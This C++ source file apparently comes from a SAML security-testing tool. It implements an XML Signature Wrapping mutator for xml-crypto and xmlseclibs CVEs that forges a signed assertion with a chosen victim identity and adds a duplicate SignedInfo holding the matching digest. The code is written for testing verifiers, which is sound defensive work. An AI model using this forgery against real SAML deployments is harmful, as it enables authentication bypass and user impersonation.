// SPDX-License-Identifier: Apache-2.0
// xsw.signed_info_doubled — xml-crypto CVE-2025-29774, xmlseclibs CVE-2019-3465
// (XSW-SIGNEDINFO-MULTI): the signed content is forged and a second SignedInfo whose Reference
// digest matches the forgery is added beside the untouched original. A verifier that digests with
// one SignedInfo and checks the SignatureValue against the other accepts it. xmldsig-core §4.1:
// a Signature holds exactly one SignedInfo.
#include "mutators/xsw/xsw.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators {

// Params: target (assertion | response: whose Signature), position (before | after the original
// SignedInfo), victim.
core::Result<void> xsw_signed_info_doubled(Target& target) {
  namespace n = core::names;
  auto which = xsw::choice_param(target, "target", "assertion|response", "assertion");
  auto position = which ? xsw::choice_param(target, "position", "before|after", "before") : which;
  auto victim = xsw::victim(target);
  if (!position || !victim) {
    return core::fail(!position ? position.error() : victim.error());
  }
  xmlNode* element = *which == "response" ? xsw::response(target) : xsw::first_assertion(target);
  xmlNode* signature = element ? xsw::signature_of(element) : nullptr;
  xmlNode* signed_info = signature ? core::child_named(signature, n::ns_dsig, "SignedInfo") : nullptr;
  if (signed_info == nullptr || core::descendants_named(signed_info, n::ns_dsig, "DigestValue").empty()) {
    return core::fail(core::Reason::mutator_not_applicable, "the " + *which + " carries no signed Reference");
  }
  xsw::write_victim(element, *victim);
  auto digest = xsw::enveloped_digest(element);
  if (!digest) {
    return core::fail(digest.error());
  }
  xmlNode* forged = xmlDocCopyNode(signed_info, target.doc->get(), 1);
  core::set_text(core::descendants_named(forged, n::ns_dsig, "DigestValue").front(), *digest);
  *position == "before" ? xsw::insert_before(signed_info, forged) : static_cast<void>(xmlAddNextSibling(signed_info, forged));
  return {};
}

}  // namespace samlt::idp::mutators
